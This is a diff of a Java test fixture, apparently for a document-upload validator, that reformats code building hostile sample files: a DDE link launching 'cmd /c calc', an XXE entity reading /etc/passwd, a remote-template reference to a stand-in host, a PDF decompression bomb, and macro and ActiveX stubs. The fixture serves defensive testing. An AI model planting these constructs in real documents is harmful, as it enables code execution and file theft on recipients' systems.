@@ -17,7 +17,8 @@ import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
 
 /** Files that are not what they are called, or more than that. By the name under which they come. */
 final class HostileFiles {
-  private static final String TYPES = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
+  private static final String TYPES =
+      "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
   private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
   private static final String PAGE = "<html><script>alert(1)</script></html>";
 
@@ -35,13 +36,20 @@ final class HostileFiles {
     files.put("terkunci.pdf", pdf(false, "rahasia"));
     files.put("sobek.pdf", ascii("%PDF-1.7\n1 0 obj\n<<"));
     files.put("bom.pdf", bomb());
-    files.put("makro.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/vbaProject.bin", "x")));
-    files.put("dde.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/externalLinks/externalLink1.xml",
-        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")));
-    files.put("entitas.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><workbook>&x;</workbook>")));
-    files.put("surat.docx", zip(Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/_rels/settings.xml.rels",
-        "<Relationships><Relationship Type=\"" + RELATIONS + "attachedTemplate\" Target=\"http://contoh.example.invalid/a.dotm\" TargetMode=\"External\"/></Relationships>")));
-    files.put("surat.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/activeX/activeX1.bin", "x")));
+    files.put("makro.xlsx",
+        zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/vbaProject.bin", "x")));
+    files.put("dde.xlsx",
+        zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml", "<workbook/>", "xl/externalLinks/externalLink1.xml",
+            "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")));
+    files.put("entitas.xlsx", zip(Map.of("[Content_Types].xml", TYPES, "xl/workbook.xml",
+        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><workbook>&x;</workbook>")));
+    files.put("surat.docx",
+        zip(Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/_rels/settings.xml.rels",
+            "<Relationships><Relationship Type=\"" + RELATIONS
+                + "attachedTemplate\" Target=\"http://contoh.example.invalid/a.dotm\" "
+                + "TargetMode=\"External\"/></Relationships>")));
+    files.put("surat.xlsx", zip(
+        Map.of("[Content_Types].xml", TYPES, "word/document.xml", "<document/>", "word/activeX/activeX1.bin", "x")));
     return files;
   }
 
@@ -79,8 +87,8 @@ final class HostileFiles {
     try (var deflating = new java.util.zip.DeflaterOutputStream(packed)) {
       deflating.write(new byte[5 << 20]);
     }
-    return joined(ascii("%PDF-1.5\n1 0 obj\n<</Type/XRef/W[1 2 1]/Root 1 0 R/Size 4/Filter/FlateDecode/Length " + packed.size() + ">>\nstream\n"),
-        packed.toByteArray(), ascii("\nendstream\nendobj\nstartxref\n9\n%%EOF"));
+    return joined(ascii("%PDF-1.5\n1 0 obj\n<</Type/XRef/W[1 2 1]/Root 1 0 R/Size 4/Filter/FlateDecode/Length "
+        + packed.size() + ">>\nstream\n"), packed.toByteArray(), ascii("\nendstream\nendobj\nstartxref\n9\n%%EOF"));
   }
 
   private static byte[] ascii(String text) {
